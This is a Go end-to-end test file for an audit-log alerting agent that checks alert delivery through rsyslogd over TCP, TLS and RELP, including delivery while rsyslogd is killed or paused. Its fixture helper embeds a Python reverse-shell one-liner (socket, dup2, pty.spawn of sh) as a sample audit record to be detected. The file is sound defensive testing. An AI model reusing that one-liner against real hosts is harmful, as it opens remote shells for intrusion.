//go:build e2e

package e2e

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
)

// recorded returns the records of a Python reverse shell; number makes it findable.
func recorded(number int) string {
	stamp := fmt.Sprintf("audit(%d.000:%d)", 1795250000+number, number)
	return strings.NewReplacer("STAMP", stamp, "NUMBER", fmt.Sprintf("n%05d", number)).Replace(
		`type=SYSCALL msg=STAMP: arch=c000003e syscall=59 success=yes exit=0 ppid=5 pid=6 auid=1001 uid=0 euid=0 tty=(none) ses=2 comm="python3" exe="/usr/bin/python3.11" key="exec"
type=EXECVE msg=STAMP: argc=3 a0="python3" a1="-c" a2="'NUMBER';import/**/socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);pty.spawn('sh')"
type=CWD msg=STAMP: cwd="/"
type=PROCTITLE msg=STAMP: proctitle="python3"
`)
}

// agentOnStdin starts auditpy with a configuration of sinks; what is written to the pipe are its records.
func agentOnStdin(t *testing.T, dir, sinks string) (d *daemon, records *io.PipeWriter) {
	t.Helper()
	name := filepath.Join(dir, "config.yaml")
	write(t, name, fmt.Sprintf("rules: {paths: []}\nhealth: {alerts: false}\nstate_dir: %s\nsinks:\n%s", filepath.Join(dir, "state"), sinks))
	r, w := io.Pipe()
	d = &daemon{cmd: exec.Command(binary, "run", "--config", name, "-"), stdout: new(buffer), stderr: new(buffer), done: make(chan error, 1)}
	d.cmd.Stdin, d.cmd.Stdout, d.cmd.Stderr = r, d.stdout, d.stderr
	if err := d.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { d.done <- d.cmd.Wait() }()
	t.Cleanup(func() { w.Close(); d.stop(t) })
	return d, w
}

func needModules(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		if found, _ := filepath.Glob("/usr/lib/*/rsyslog/" + n + ".so"); len(found) == 0 {
			t.Skipf("needs rsyslog's %s: the packages rsyslog-relp and rsyslog-gnutls", n)
		}
	}
}

// certificate writes a self-signed certificate for 127.0.0.1 and its key.
func certificate(t *testing.T, dir string) (cert, key string) {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "127.0.0.1"}, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth},
		KeyUsage:    x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &k.PublicKey, k)
	if err != nil {
		t.Fatal(err)
	}
	kder, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	cert, key = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	write(t, cert, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})))
	write(t, key, string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kder})))
	return cert, key
}

// TestTransports: a real rsyslogd parses what each transport, header and format brings, and each alert arrives once.
func TestTransports(t *testing.T) {
	needModules(t, "imrelp", "lmnsd_gtls", "imtcp")
	dir := t.TempDir()
	cert, key := certificate(t, dir)
	tcp, lf, tls, relp, relpTLS := freeTCP(t), freeTCP(t), freeTCP(t), freeTCP(t), freeTCP(t)
	conf := fmt.Sprintf(`global(maxMessageSize="64k" workDirectory=%[1]q defaultNetstreamDriverCAFile=%[2]q defaultNetstreamDriverCertFile=%[2]q defaultNetstreamDriverKeyFile=%[3]q)
template(name="t" type="string" string="%%protocol-version%%|%%app-name%%|%%structured-data%%|%%msg%%\n")
module(load="imtcp") module(load="imrelp" ruleset="relp") module(load="imudp")
input(type="imtcp" address="127.0.0.1" port="%[4]d" ruleset="tcp")
input(type="imtcp" address="127.0.0.1" port="%[5]d" ruleset="lf" supportOctetCountedFraming="off")
input(type="imtcp" address="127.0.0.1" port="%[6]d" ruleset="tls" streamDriver.name="gtls" streamDriver.mode="1" streamDriver.authMode="anon")
input(type="imrelp" address="127.0.0.1" port="%[7]d" ruleset="relp")
input(type="imrelp" address="127.0.0.1" port="%[8]d" ruleset="relptls" tls="on" tls.caCert=%[2]q tls.myCert=%[2]q tls.myPrivKey=%[3]q tls.authMode="name" tls.permittedPeer=["127.0.0.1"])
`, dir, cert, key, tcp, lf, tls, relp, relpTLS)
	names := []string{"tcp", "lf", "tls", "relp", "relptls"}
	for _, n := range names {
		conf += fmt.Sprintf("ruleset(name=%q) { action(type=\"omfile\" file=%q template=\"t\") }\n", n, filepath.Join(dir, n+".log"))
	}
	write(t, filepath.Join(dir, "rsyslog.conf"), conf)
	start(t, "rsyslogd", "-n", "-f", filepath.Join(dir, "rsyslog.conf"), "-i", filepath.Join(dir, "rsyslogd.pid"))
	agent, records := agentOnStdin(t, dir, fmt.Sprintf(`  stdout: {enabled: false}
  syslog: {enabled: false}
  file: {enabled: true, path: %s/alerts.json}
  forward:
    - {name: tcp, network: tcp, address: "127.0.0.1:%d"}
    - {name: lf, network: tcp, address: "127.0.0.1:%d", framing: lf, format: cef, protocol: rfc3164}
    - {name: tls, network: tls, address: "127.0.0.1:%d", format: ocsf, tls: {ca_file: %s}}
    - {name: relp, network: relp, address: "127.0.0.1:%d", format: asim}
    - {name: relptls, network: relp+tls, address: "127.0.0.1:%d", format: text, tls: {ca_file: %s, cert_file: %s, key_file: %s}}
`, dir, tcp, lf, tls, cert, relp, relpTLS, cert, cert, key))
	const alerts = 100
	for i := range alerts {
		io.WriteString(records, recorded(i))
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("auditpy said:\n%s", agent.stderr)
		}
	})
	body := map[string]func(string) error{
		"tcp": jsonBody, "tls": jsonBody, "relp": jsonBody, "alerts.json": jsonBody,
		"lf":      func(s string) error { return begins(s, "CEF:0|auditpy|auditpy|") },
		"relptls": func(s string) error { return begins(s, "2026-") },
	}
	for _, n := range append(names, "alerts.json") {
		file := filepath.Join(dir, n+".log")
		if n == "alerts.json" {
			file = filepath.Join(dir, n)
		}
		eventually(t, n+" has all", func() bool { return strings.Count(read(file), "\n") >= alerts })
		for line := range strings.Lines(read(file)) {
			header, msg := "1|auditpy|", line
			if n == "lf" {
				header = "0|auditpy|"
			}
			if n != "alerts.json" {
				f := strings.SplitN(line, "|", 4)
				if len(f) != 4 || !strings.HasPrefix(line, header) || n != "lf" && !strings.Contains(f[2], "[auditpy@32473 id=") {
					t.Fatalf("%s: rsyslogd read %q", n, line)
				}
				msg = strings.TrimSpace(f[3])
			}
			if err := body[n](msg); err != nil {
				t.Fatalf("%s: %v in %q", n, err, line)
			}
		}
		once(t, n, read(file), alerts)
	}
}

func jsonBody(s string) error {
	var doc map[string]any
	return json.Unmarshal([]byte(s), &doc)
}

func begins(s, with string) error {
	if !strings.HasPrefix(s, with) {
		return fmt.Errorf("does not begin with %q", with)
	}
	return nil
}

var numberPattern = regexp.MustCompile(`'?(n\d{5})'`)

func once(t *testing.T, name, text string, alerts int) {
	t.Helper()
	seen := map[string]int{}
	for line := range strings.Lines(text) {
		seen[numberPattern.FindString(line)]++
	}
	if len(seen) != alerts {
		t.Errorf("%s: %d different alerts, want %d", name, len(seen), alerts)
	}
	for k, n := range seen {
		if n != 1 {
			t.Errorf("%s: %s came %d times", name, k, n)
		}
	}
}

// TestD10RsyslogKilled: a real rsyslogd with RELP is killed -9 fifty times under load, and loses nothing. Its queue must be direct: by
// default it acknowledges what it holds in memory.
func TestD10RsyslogKilled(t *testing.T) {
	needModules(t, "imrelp")
	const kills, each = 50, 20
	dir, port := t.TempDir(), freeTCP(t)
	file, conf := filepath.Join(dir, "received.log"), filepath.Join(dir, "rsyslog.conf")
	write(t, conf, fmt.Sprintf(`global(maxMessageSize="64k" workDirectory=%q)
main_queue(queue.type="Direct")
template(name="t" type="string" string="%%msg%%\n")
module(load="imrelp")
input(type="imrelp" address="127.0.0.1" port="%d")
action(type="omfile" file=%q template="t")
`, dir, port, file))
	_, records := agentOnStdin(t, dir, fmt.Sprintf("  stdout: {enabled: false}\n  syslog: {network: relp, address: \"127.0.0.1:%d\"}\n", port))
	fed := make(chan bool)
	go func() {
		defer close(fed)
		for i := range kills * each {
			io.WriteString(records, recorded(i))
		}
	}()
	for k := range kills {
		cmd := exec.Command("rsyslogd", "-n", "-f", conf, "-i", filepath.Join(dir, fmt.Sprintf("pid%d", k)))
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		before := lineCount(file)
		eventually(t, "some alerts", func() bool { return lineCount(file) >= before+each/2 || lineCount(file) >= kills*each })
		cmd.Process.Kill()
		cmd.Wait()
	}
	<-fed
	start(t, "rsyslogd", "-n", "-f", conf, "-i", filepath.Join(dir, "pid"))
	seen := map[string]bool{}
	eventually(t, "all alerts", func() bool {
		for _, m := range numberPattern.FindAllString(read(file), -1) {
			seen[m] = true
		}
		return len(seen) == kills*each
	})
	t.Logf("%d alerts, %d kills: 0 lost, %d repeated", kills*each, kills, lineCount(file)-kills*each)
}

// TestD12RsyslogStopped: while a real rsyslogd is stopped (SIGSTOP), the file beside it gets each alert; when it goes on it gets them, too, each
// at least once.
func TestD12RsyslogStopped(t *testing.T) {
	const alerts = 300
	dir, port := t.TempDir(), freeTCP(t)
	file, conf := filepath.Join(dir, "received.log"), filepath.Join(dir, "rsyslog.conf")
	write(t, conf, fmt.Sprintf(`global(maxMessageSize="64k" workDirectory=%q)
template(name="t" type="string" string="%%msg%%\n")
module(load="imtcp")
input(type="imtcp" address="127.0.0.1" port="%d")
action(type="omfile" file=%q template="t")
`, dir, port, file))
	peer := start(t, "rsyslogd", "-n", "-f", conf, "-i", filepath.Join(dir, "pid"))
	_, records := agentOnStdin(t, dir, fmt.Sprintf(`  stdout: {enabled: false}
  file: {enabled: true, path: %s/alerts.json}
  syslog: {network: tcp, address: "127.0.0.1:%d", timeout: 1s}
`, dir, port))
	io.WriteString(records, recorded(0))
	eventually(t, "the first alert", func() bool { return lineCount(file) == 1 })
	peer.cmd.Process.Signal(syscall.SIGSTOP)
	defer peer.cmd.Process.Signal(syscall.SIGCONT)
	begin := time.Now()
	for i := range alerts - 1 {
		io.WriteString(records, recorded(i+1))
	}
	eventually(t, "the file", func() bool { return lineCount(filepath.Join(dir, "alerts.json")) == alerts })
	took := time.Since(begin)
	time.Sleep(3 * time.Second) // long enough for the sink to give the connection up, more than once
	peer.cmd.Process.Signal(syscall.SIGCONT)
	begin = time.Now()
	eventually(t, "the rest", func() bool {
		seen := map[string]bool{}
		for _, m := range numberPattern.FindAllString(read(file), -1) {
			seen[m] = true
		}
		return len(seen) == alerts
	})
	t.Logf("the file took %v for %d alerts; rsyslogd was back after %v, with %d lines", took, alerts, time.Since(begin), lineCount(file))
}

func lineCount(file string) int {
	b, _ := os.ReadFile(file) // not there yet: none
	return strings.Count(string(b), "\n")
}
